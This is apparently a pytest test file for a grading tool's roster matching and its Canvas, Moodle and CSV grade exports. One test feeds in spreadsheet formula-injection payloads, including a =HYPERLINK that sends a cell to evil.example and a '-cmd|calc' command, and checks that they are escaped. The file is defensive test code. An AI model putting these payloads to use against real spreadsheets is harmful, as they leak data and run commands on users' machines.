"""The roster, and the files learning platforms import (``streamlab grade export``): no kernel."""
from __future__ import annotations

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest
from shard_outputs import make_output, shards

from streamlab.grading.labs import GradingError
from streamlab.grading.outputs.exports import canvas, comment, export_table, left_out, moodle, plain, to_csv
from streamlab.grading.outputs.results import Result, Status
from streamlab.grading.outputs.roster import match, parse_roster

ROOT = Path(__file__).resolve().parents[3]
ROSTER = """\ufefffile,id,name,email,section,notes
ana.ipynb,S1,"Alves, Ana",ana@uni.edu,A,
ben,S2,Ben Berg,ben@uni.edu,B,late
cem.ipynb,S3,Cem Can,cem@uni.edu,A,

zoe.ipynb,S9,Zoe Zed,zoe@uni.edu,B,
"""


def _results() -> list[Result]:
    return [Result(student="ana", status=Status.GRADED, score=10, max_score=10, file="/subs/ana.ipynb"),
            Result(student="ben", status=Status.TIMED_OUT, score=6.5, max_score=10, file="/subs/ben.ipynb",
                   detail="stopped in: part_c"),
            Result(student="cem", status=Status.LIMIT, score=0, max_score=10, file="/subs/cem.ipynb",
                   detail="memory: more than 4096 MB", sandboxed=False),
            Result(student="dan", status=Status.GRADED, score=3, max_score=10, file="/subs/dan.ipynb")]


def _matched():
    return match(parse_roster(ROSTER), [(r.student, r.file) for r in _results()])


def test_roster_matches_by_file_name_and_lists_who_is_missing_or_unknown():
    students = parse_roster(ROSTER)
    assert [s.id for s in students] == ["S1", "S2", "S3", "S9"]  # blank line skipped, extra column ignored
    assert students[0].name == "Alves, Ana"
    matched = _matched()
    assert sorted(matched.found) == ["ana", "ben", "cem"]
    assert [s.file for s in matched.missing] == ["zoe.ipynb"]
    assert matched.unknown == ["dan"]
    text = matched.describe(4)
    assert "3 of 4" in text and "Zoe Zed (zoe.ipynb)" in text and "not in the roster (1): dan" in text


def test_nbgrader_folders_match_by_their_exact_name():
    students = parse_roster("file,id,name,email,section\nana,S1,Ana,a@x,A\ncem.ipynb,S3,Cem,c@x,A\n")
    matched = match(students, [("ana", "/course/submitted/ana/lab01"), ("cem", "/course/submitted/cem/lab01")])
    assert sorted(matched.found) == ["ana"] and [s.file for s in matched.missing] == ["cem.ipynb"]


def test_the_roster_matches_exact_names_only():
    """The old match cleaned names up: ``ben_2`` took the file ``ben 2.ipynb`` (and ``Ana.ipynb`` took ``ana``).
    Now a row takes the submission of exactly its name, with or without .ipynb, and nothing else."""
    students = parse_roster("file,id,name,email,section\nben_2,S2,Ben,b@x,A\nAna.ipynb,S1,Ana,a@x,A\n"
                            "_lice,S4,Lice,l@x,B\nzz_victim.ipynb,S5,Vic,v@x,B\n")
    submissions = [("invalid~0123456789ab", "/subs/ben 2.ipynb"), ("ana", "/subs/ana.ipynb"),
                   ("lice", "/subs/lice.ipynb"), ("_lice", "/subs/_lice.ipynb"),
                   ("invalid~ba9876543210", "/subs/zz victim.ipynb"), ("zz_victim", "/subs/zz_victim.ipynb")]
    matched = match(students, submissions)
    assert {k: v.id for k, v in matched.found.items()} == {"_lice": "S4", "zz_victim": "S5"}
    assert sorted(s.file for s in matched.missing) == ["Ana.ipynb", "ben_2"]
    assert matched.unknown == ["ana", "invalid~0123456789ab", "invalid~ba9876543210", "lice"]


@pytest.mark.parametrize("text, message", [
    ("file,id,name\nana,1,Ana\n", "no email, section"),
    ("file,id,name,email,section\n,S1,Ana,a@x,A\n", "line 2: no file name"),
    ("file,id,name,email,section\nana.ipynb,S1,A,a@x,A\nana,S2,B,b@x,A\n", "lines 2 and 3: the same submission"),
    ("file,id,name,email,section\nana,S1,A,a@x,A\nben,S1,B,b@x,A\n", "the same id 'S1'"),
    ("file,id,name,email,section\nsubs/ana.ipynb,S1,A,a@x,A\n", "line 2: the file 'subs/ana.ipynb' names a folder"),
    ("file,id,name,email,section\nana,S1,A,a@x,A\n\nana.ipynb,S2,B,b@x,A\n", "lines 2 and 4: the same submission"),
])
def test_a_broken_roster_is_refused_with_the_line(text, message):
    with pytest.raises(GradingError, match=message):
        parse_roster(text)


def _table(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text)))


def test_canvas_layout():
    """Canvas's gradebook CSV: Student, ID, SIS User ID, SIS Login ID, Section, then the assignment; the
    Points Possible row; the lab's points; no comment column (Canvas would make it an assignment). Zoe (no
    submission) is not in the file at all: a blank cell would remove a grade she may have in Canvas."""
    table = _table(to_csv(canvas(_results(), _matched(), "Lab 1", 10.0, allow_unlisted=True)))
    assert table[0] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section", "Lab 1"]
    assert table[1] == ["Points Possible", "", "", "", "", "10"]
    assert table[2:] == [["Alves, Ana", "", "S1", "ana@uni.edu", "A", "10"],
                         ["Cem Can", "", "S3", "cem@uni.edu", "A", "0"],
                         ["Ben Berg", "", "S2", "ben@uni.edu", "B", "6.50"]]
    assert [line.split(":")[0] for line in left_out(_results(), _matched())] == ["line 6 (zoe.ipynb, Zoe Zed)"]


def test_moodle_layout():
    table = moodle(_results(), _matched(), "Lab 1", 10.0, allow_unlisted=True)
    assert table[0] == ["ID number", "Email address", "Full name", "Section", "Lab 1", "Lab 1 (feedback)"]
    rows = {row[0]: row for row in table[1:]}
    assert rows["S1"][4:] == ["10", "graded"]
    assert rows["S2"][4:] == ["6.50", "timed out: stopped in: part_c"]
    assert rows["S3"][4:] == ["0", "limit exceeded (no sandbox): memory: more than 4096 MB"]
    assert sorted(rows) == ["S1", "S2", "S3"]   # S9 has no submission: left out, not a blank grade
    assert "dan" not in str(table)


def test_plain_csv_keeps_everyone():
    table = plain(_results(), _matched(), "Lab 1", 10.0)
    assert table[0] == ["file", "id", "name", "email", "section", "student", "score", "max_score", "status", "detail"]
    by_student = {row[5]: row for row in table[1:]}
    assert by_student["dan"][:2] == ["/subs/dan.ipynb", ""] and by_student["dan"][6] == "3"   # unknown: kept
    assert by_student[""][0] == "zoe.ipynb" and by_student[""][8] == "no submission"        # missing: kept
    assert len(plain(_results(), None, "Lab 1", 10.0)) == 5


def test_lms_formats_need_a_roster_and_comments_are_short():
    with pytest.raises(ValueError, match="needs a roster"):
        export_table("canvas", _results(), None, "Lab 1", 10.0)
    long = Result(student="x", status=Status.CRASHED, detail="y" * 1000)
    assert len(comment(long)) == 300 and comment(long).endswith("...")
    assert comment(None) == "no submission"


# ----------------------------------------------------------------------------- refusals of the exports

def _roster(*rows: str) -> str:
    return "file,id,name,email,section\n" + "".join(row + "\n" for row in rows)


def _graded(*students: str, status: Status = Status.GRADED) -> list[Result]:
    return [Result(student=s, status=status, score=5, max_score=10, file=f"/subs/{s}.ipynb") for s in students]


@pytest.mark.parametrize("fmt", ["canvas", "moodle"])
@pytest.mark.parametrize("rows, says", [
    (["ana.ipynb,,Ana,ana@x,A", "ben.ipynb,S2,Ben,ben@x,A"], "line 2 (ana.ipynb, Ana) has no id"),
    (["ana.ipynb,s1,Ana,ana@x,A", "ben.ipynb,S1,Ben,ben@x,A"],
     "line 2 (ana.ipynb, Ana) and line 3 (ben.ipynb, Ben) have the same id ('s1' and 'S1', one when case is ignored)"),
    (["ana.ipynb,S1,Ana,same@x,A", "ben.ipynb,S2,Ben,SAME@x,A"], "have the same e-mail address"),
    (["ana.ipynb,=HYPERLINK(1),Ana,ana@x,A", "ben.ipynb,S2,Ben,ben@x,A"], "a spreadsheet would run as a formula"),
])
def test_a_roster_that_would_misfile_a_grade_is_refused(fmt, rows, says):
    results = _graded("ana", "ben")
    matched = match(parse_roster(_roster(*rows)), [(r.student, r.file) for r in results])
    with pytest.raises(GradingError, match="would put grades on the wrong students") as refusal:
        export_table(fmt, results, matched, "Lab 1", 10.0, allow_unlisted=True)
    assert says in str(refusal.value)


def test_moodle_takes_the_id_0_for_no_id():
    """Moodle checks the id with PHP's empty(), which is true for "0" as for "": refused for Moodle only."""
    results = _graded("ana")
    matched = match(parse_roster(_roster("ana.ipynb,0,Ana,ana@x,A")), [(r.student, r.file) for r in results])
    with pytest.raises(GradingError, match="the id '0', which Moodle's import takes for no id"):
        moodle(results, matched, "Lab 1", 10.0)
    assert canvas(results, matched, "Lab 1", 10.0)[2][2] == "0"


def test_an_id_only_rows_left_out_carry_does_not_matter():
    """Ids are checked on the rows written: a roster student without a submission may have none yet."""
    results = _graded("ana")
    matched = match(parse_roster(_roster("ana.ipynb,S1,Ana,ana@x,A", "zoe.ipynb,,Zoe,,B")),
                    [(r.student, r.file) for r in results])
    assert [row[2] for row in canvas(results, matched, "Lab 1", 10.0)[2:]] == ["S1"]


def test_graded_students_missing_from_the_roster_are_refused_unless_allowed():
    results = _graded("ana", "dan")
    matched = match(parse_roster(_roster("ana.ipynb,S1,Ana,ana@x,A")), [(r.student, r.file) for r in results])
    for build in (canvas, moodle):
        with pytest.raises(GradingError, match="1 graded submission.s. are not in the roster: dan.*--allow-unlisted"):
            build(results, matched, "Lab 1", 10.0)
        assert "dan" not in str(build(results, matched, "Lab 1", 10.0, allow_unlisted=True))


def test_a_grader_error_is_left_out_not_written_as_a_grade():
    results = _graded("ana") + _graded("ben", status=Status.ERROR)
    matched = match(parse_roster(_roster("ana.ipynb,S1,Ana,ana@x,A", "ben.ipynb,S2,Ben,ben@x,A")),
                    [(r.student, r.file) for r in results])
    assert [row[0] for row in moodle(results, matched, "Lab 1", 10.0)[1:]] == ["S1"]
    assert left_out(results, matched) == ["line 3 (ben.ipynb, Ben): grader error (grade it again, then export again)"]


def test_cells_a_spreadsheet_would_run_are_written_as_text():
    results = [Result(student="+ana", status=Status.CRASHED, score=0, max_score=10, file="/subs/+ana.ipynb",
                      detail="=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")")]
    matched = match(parse_roster(_roster('+ana.ipynb,S1,"=HYPERLINK(""http://x"")",@ana@x,-cmd|calc')),
                    [(r.student, r.file) for r in results])
    for table in (moodle(results, matched, "@Lab", 10.0), plain(results, matched, "@Lab", 10.0)):
        for row in _table(to_csv(table)):
            risky = [cell for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]
            assert not risky, row
    row = _table(to_csv(moodle(results, matched, "Lab 1", 10.0)))[1]
    assert row == ["S1", "'@ana@x", "'=HYPERLINK(\"http://x\")", "'-cmd|calc", "0",
                   "crashed: =HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"]   # starts with a letter: text


# ----------------------------------------------------------------------------- the importers' documented rules

def moodle_import(text: str, grades: dict[str, float | None]) -> dict[str, float | None]:
    """Moodle's CSV grade import (grade/import/csv/classes/load_data.php, prepare_import_grade_data and
    map_user_data_with_value), the rules that decide whose grade changes, with ID number mapped to
    useridnumber and the lab's column to the grade item:
    - a line with one field or none is skipped;
    - each value is trimmed;
    - the user column is read only when ``!empty($value)``: an empty id (or "0") keeps the PREVIOUS line's
      student, whose grade the line then sets;
    - the user is looked up by the exact value; an unknown one aborts the whole import;
    - a grade ``''`` or ``'-'`` is stored as null: it removes the grade; a non-numeric one aborts the import."""
    rows = list(csv.reader(io.StringIO(text)))
    header, new = rows[0], dict(grades)
    id_col, grade_col = header.index("ID number"), 4
    student = None
    for line in rows[1:]:
        if len(line) <= 1:
            continue
        value = line[id_col].strip()
        if value not in ("", "0"):
            if value not in grades:
                raise LookupError(f"usermappingerror: {value}")
            student = value
        if student is None:
            raise LookupError("usermappingerrorusernotfound")
        grade = line[grade_col].strip()
        new[student] = None if grade in ("", "-") else float(grade)
    return new


def canvas_import(text: str, grades: dict[str, float | None]) -> dict[str, float | None]:
    """Canvas's gradebook import (Instructor Guide, "How do I import grades in the Gradebook?"): the first row
    names the columns (Student, ID, SIS User ID, SIS Login ID, Section, then one per assignment), a "Points
    Possible" row is not a student, students are found by their ids (here the SIS User ID), and a cell
    whose score is blank removes the student's score (as the issue that asked for this found)."""
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0][:5] == ["Student", "ID", "SIS User ID", "SIS Login ID", "Section"]
    new = dict(grades)
    for line in rows[1:]:
        if line[0] == "Points Possible":
            continue
        sis_id = line[2]
        if sis_id not in grades:
            raise LookupError(f"student not found: {sis_id!r}")
        new[sis_id] = None if line[5].strip() == "" else float(line[5])
    return new


def test_the_importer_models_encode_the_attacks():
    """The models reproduce what the issue saw: a blank score erases, an empty Moodle id lands on the row above."""
    before = {"S1": 7.0, "S2": 8.0}
    assert moodle_import("ID number,e,n,s,Lab 1\nS1,,,,10\n,,,,0\n", before) == {"S1": 0.0, "S2": 8.0}
    assert moodle_import("ID number,e,n,s,Lab 1\nS2,,,,\n", before) == {"S1": 7.0, "S2": None}
    canvas_text = "Student,ID,SIS User ID,SIS Login ID,Section,Lab 1\nPoints Possible,,,,,10\nA,,S1,,A,\n"
    assert canvas_import(canvas_text, before) == {"S1": None, "S2": 8.0}


def test_exports_import_as_intended_and_change_nobody_else():
    """Graded students get their points, the student whose grading failed and the one without a submission
    keep the grades the platform already has, and no grade lands on anyone else."""
    results = _graded("ana") + [Result(student="ben", status=Status.INVALID, score=0, max_score=10,
                                       file="/subs/ben.ipynb", detail="ben.ipynb is not JSON")]
    results += _graded("cem", status=Status.ERROR)
    matched = match(parse_roster(_roster("ana.ipynb,S1,Ana,ana@x,A", "ben.ipynb,S2,Ben,ben@x,A",
                                         "cem.ipynb,S3,Cem,cem@x,A", "zoe.ipynb,S9,Zoe,zoe@x,B")),
                    [(r.student, r.file) for r in results])
    before = {"S1": 1.0, "S2": 2.0, "S3": 3.0, "S9": 9.0}
    expected = {"S1": 5.0, "S2": 0.0, "S3": 3.0, "S9": 9.0}
    assert moodle_import(to_csv(moodle(results, matched, "Lab 1", 10.0)), before) == expected
    assert canvas_import(to_csv(canvas(results, matched, "Lab 1", 10.0)), before) == expected


def _streamlab(*args: str) -> subprocess.CompletedProcess:
    return subprocess.run([sys.executable, "-m", "streamlab", *args], capture_output=True, text=True, cwd=ROOT,
                          timeout=120)


def test_export_command(tmp_path):
    first = shards(1)[0]
    out = make_output(tmp_path / "out", "1/1", first)
    roster = tmp_path / "roster.csv"
    roster.write_text("file,id,name,email,section\nana.ipynb,S1,Ana,ana@x.edu,A\nzoe.ipynb,S9,Zoe,zoe@x.edu,B\n")
    target = tmp_path / "canvas.csv"
    args = ["grade", "export", str(out), "--format", "canvas", "--roster", str(roster), "--out", str(target),
            "--assignment", "Lab 1 (1234)"]
    proc = _streamlab(*args)
    assert proc.returncode == 2, proc.stderr   # graded students without a roster row: refused, nothing written
    assert "not in the roster: ben" in proc.stderr and "--allow-unlisted" in proc.stderr and not target.exists()
    proc = _streamlab(*args, "--allow-unlisted")
    assert proc.returncode == 0, proc.stderr
    table = _table(target.read_text())
    assert table[0][-1] == "Lab 1 (1234)" and table[2:] == [["Ana", "", "S1", "ana@x.edu", "A", "5"]]
    assert "line 3 (zoe.ipynb, Zoe): no submission" in proc.stdout and "not in the roster" in proc.stdout
    plain_csv = tmp_path / "all.csv"
    proc = _streamlab("grade", "export", str(out), "--format", "csv", "--out", str(plain_csv))
    assert proc.returncode == 0, proc.stderr
    assert len(_table(plain_csv.read_text())) == 1 + len(first)
    proc = _streamlab("grade", "export", str(out), "--format", "moodle", "--out", str(tmp_path / "m.csv"))
    assert proc.returncode == 2 and "needs a roster" in proc.stderr
